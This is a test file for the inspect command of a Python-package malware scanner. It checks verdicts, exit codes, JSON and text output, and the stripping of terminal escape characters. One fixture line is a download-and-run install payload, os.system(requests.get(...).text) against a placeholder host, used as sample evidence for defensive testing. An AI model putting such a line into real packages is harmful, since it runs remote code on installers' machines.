import { describe, expect, test } from 'vitest';
import { type Inspection, ruleSet, type Verdict } from '../../../server/src/inspect/inspection.ts';
import type { InspectionJob, InspectionOutcome, Inspector } from '../../../server/src/inspect/job.ts';
import { runCommand } from './run-command.ts';
import { validates } from './schemas.ts';

const files = {
  '/shop/acme-1.0-py3-none-any.whl': 'wheel',
  '/shop/setup.py': 'import os',
  '/shop/src/pkg/__init__.py': '',
  '/shop/src/.git/config': '',
  '/shop/src/pkg/node_modules/x.py': '',
};

function inspection(file: string, verdict: Verdict, more: Partial<Inspection> = {}): Inspection {
  return {
    file,
    sha256: null,
    integrity: 'unverified',
    verdict,
    evidence: [],
    limits: [],
    members: 1,
    pythonFiles: 1,
    pythonBytes: 9,
    profile: [],
    ruleSet,
    ...more,
  };
}

const found: Partial<Inspection> = {
  evidence: [
    {
      rule: 'download-run',
      file: 'setup.py\u202e',
      line: 2,
      text: 'os.system(requests.get("https://example.invalid/x").text)\u001b[2J',
      why: 'What it fetches is run.',
      weight: 0.95,
      when: 'install',
      steps: [{ file: 'setup.py', line: 1, text: 'requests.get(…)' }],
    },
  ],
  limits: [{ what: '3 compiled files', why: 'compiled' }],
};

/** Answers with a verdict a file name, and remembers what it was asked. */
function inspector(verdicts: Readonly<Record<string, Verdict | InspectionOutcome>>): Inspector & {
  readonly jobs: InspectionJob[];
} {
  const jobs: InspectionJob[] = [];
  return {
    jobs,
    async inspect(job) {
      jobs.push(job);
      const answer = verdicts[job.file] ?? 'clean';
      if (typeof answer !== 'string') return answer;
      return { kind: 'done', inspection: inspection(job.file, answer, answer === 'malicious' ? found : {}) };
    },
    close: async () => {},
  };
}

describe('the exit code', () => {
  test.each([
    ['setup.py', {}, 0],
    ['setup.py', { 'setup.py': 'suspicious' }, 1],
    ['setup.py', { 'setup.py': 'malicious' }, 1],
    ['setup.py', { 'setup.py': 'not-inspected' }, 3],
    ['setup.py', { 'setup.py': { kind: 'failed', why: 'time' } }, 3],
    ['setup.py src', { 'setup.py': 'not-inspected', src: 'suspicious' }, 1],
    ['setup.py src', { 'setup.py': 'not-inspected' }, 3],
  ] as const)('of %s with %j is %i', async (operands, verdicts, code) => {
    expect(await runCommand(`inspect ${operands}`, { files, inspector: inspector(verdicts) })).toMatchObject({
      code,
      stderr: '',
    });
  });

  test('wrong usage among good arguments is 2, and nothing is read', async () => {
    const asked = inspector({ 'setup.py': 'malicious' });
    const { code, stdout } = await runCommand('inspect setup.py nowhere.whl', { files, inspector: asked });
    expect({ code, stdout, jobs: asked.jobs }).toEqual({ code: 2, stdout: '', jobs: [] });
  });
});

describe('what is asked of the inspector', () => {
  test('an archive and a Python file go as bytes, a folder as names', async () => {
    const asked = inspector({});
    await runCommand('inspect ./acme-1.0-py3-none-any.whl setup.py src', { files, inspector: asked });
    expect(asked.jobs.map(({ kind, file }) => [kind, file])).toEqual([
      ['archive', 'acme-1.0-py3-none-any.whl'],
      ['file', 'setup.py'],
      ['tree', 'src'],
    ]);
    const [archive, , tree] = asked.jobs;
    expect(archive?.kind === 'archive' && new TextDecoder().decode(archive.bytes)).toBe('wheel');
    if (tree?.kind !== 'tree') throw new Error('no tree');
    expect(tree.names).toEqual(['pkg/__init__.py']);
    expect(await tree.read('pkg/__init__.py')).toHaveLength(0);
    expect(await tree.read('pkg/gone.py')).toBeNull();
  });

  test('no engine is made for what lies on the disk', async () => {
    expect((await runCommand('inspect setup.py', { files, inspector: inspector({}) })).request).toBeNull();
  });

  test('folders that were not entered are told as limits', async () => {
    const { stdout } = await runCommand('inspect src --format json', { files, inspector: inspector({}) });
    expect(JSON.parse(stdout)[0].limits).toEqual([
      ".git/: left out, since it is not the project's own",
      "pkg/node_modules/: left out, since it is not the project's own",
    ]);
  });
});

test('JSON follows its schema, with attackers’ text as it is', async () => {
  const { stdout, code } = await runCommand('inspect setup.py src --format json', {
    files,
    inspector: inspector({ 'setup.py': 'malicious' }),
  });
  const json = JSON.parse(stdout);
  expect(validates('inspect', json)).toEqual([]);
  expect(code).toBe(1);
  expect(json[0]).toEqual({
    path: 'setup.py',
    file: 'setup.py',
    verdict: 'malicious',
    evidence: [{ ...found.evidence?.[0] }],
    limits: ['3 compiled files: compiled, cannot be read'],
    sha256: null,
    integrity: 'unverified',
    members: 1,
    pythonFiles: 1,
  });
  expect(json[1]).toMatchObject({ path: 'src', verdict: 'clean', evidence: [] });
  // Nothing that a terminal would act on, although the values are whole.
  expect(['\u001b', '\u202e'].filter((sign) => stdout.includes(sign))).toEqual([]);
});

test('text tells verdict, place, code and reason, cleaned, and never says safe of what is clean', async () => {
  const { stdout } = await runCommand('inspect setup.py src', {
    files,
    inspector: inspector({ 'setup.py': 'malicious' }),
  });
  expect(stdout.replace(/in [\d.]+ s/, 'in 0.1 s')).toBe(
    [
      'setup.py: malicious',
      '  setup.py, line 3: download-run (strong, runs when it is installed)',
      '    os.system(requests.get("https://example.invalid/x").text)',
      '    What it fetches is run.',
      '      1. setup.py, line 2: requests.get(…)',
      '  Not read:',
      '    compiled, cannot be read: 3 compiled files',
      '',
      'src: nothing found',
      '  Not read:',
      "    left out, since it is not the project's own: .git/ and pkg/node_modules/",
      '',
      '2 files looked into in 0.1 s: 1 malicious and 1 nothing found. Nothing was run.',
      'Nothing found means that no rule found anything in what was read, not that a file is safe.',
      '',
    ].join('\n'),
  );
});

test('--quiet leaves the closing lines out', async () => {
  const { stdout } = await runCommand('inspect setup.py --quiet', { files, inspector: inspector({}) });
  expect(stdout).toBe('setup.py: nothing found\n');
});

test.each([
  ['time', 'it took too long.'],
  ['memory', 'it needed more memory than it may have.'],
  ['crash', 'something went wrong while it was read.'],
] as const)('a look that ended by %s says so', async (why, sentence) => {
  const world = { files, inspector: inspector({ 'setup.py': { kind: 'failed', why } }) };
  expect((await runCommand('inspect setup.py', world)).stdout).toContain(
    `setup.py: not inspected\n  It could not be looked into: ${sentence}\n`,
  );
  expect(JSON.parse((await runCommand('inspect setup.py --format json', world)).stdout)).toMatchObject([
    { verdict: 'not-inspected', limits: [sentence] },
  ]);
});

describe('a release', () => {
  const inspected = {
    'acme==1': {
      kind: 'looked' as const,
      inspected: {
        version: '1',
        at: 0,
        files: [
          {
            filename: 'acme-1-py3-none-any.whl',
            inspection: inspection('acme-1-py3-none-any.whl', 'malicious', found),
            failed: null,
          },
          { filename: 'acme-1.tar.gz', inspection: null, failed: 'the index did not answer.' },
        ],
      },
    },
  };

  test('is every file of it, each with its verdict', async () => {
    const { code, stdout, calls } = await runCommand('inspect Acme==1.0.0 --format json', { inspected: {} });
    expect(code).toBe(3);
    expect(JSON.parse(stdout)).toMatchObject([{ path: 'Acme==1.0.0', file: 'Acme==1.0.0' }]);
    expect(calls).toContain('look into all of acme==1.0.0');
  });

  test('tells what was found and what could not be fetched', async () => {
    const { code, stdout, calls } = await runCommand('inspect acme==1', { inspected });
    expect(code).toBe(1);
    expect(calls.at(-1)).toBe('close');
    expect(stdout).toContain('acme-1-py3-none-any.whl (acme==1): malicious\n');
    expect(stdout).toContain('acme-1.tar.gz (acme==1): not inspected\n');
    expect(stdout).toContain('  It could not be looked into: the index did not answer.\n');
  });

  test('a reason why there is none is told', async () => {
    const { code, stdout } = await runCommand('inspect acme==2', {
      inspected: { 'acme==2': { kind: 'not-looked', why: 'acme 2 has no files.' } },
    });
    expect(code).toBe(3);
    expect(stdout).toContain('acme==2: not inspected\n  It could not be looked into: acme 2 has no files.\n');
  });

  test('a file of that name on the disk comes first', async () => {
    const world = { files: { '/shop/acme==1/x.py': '' }, inspector: inspector({}) };
    expect((await runCommand('inspect acme==1', world)).request).toBeNull();
  });
});

test('on a terminal the progress is cleared before anything is told', async () => {
  const { stderr } = await runCommand('inspect setup.py', { files, inspector: inspector({}), terminal: 80 });
  expect(stderr).toContain('Looking into setup.py…');
  expect(stderr.endsWith('\r\u001b[K')).toBe(true);
});
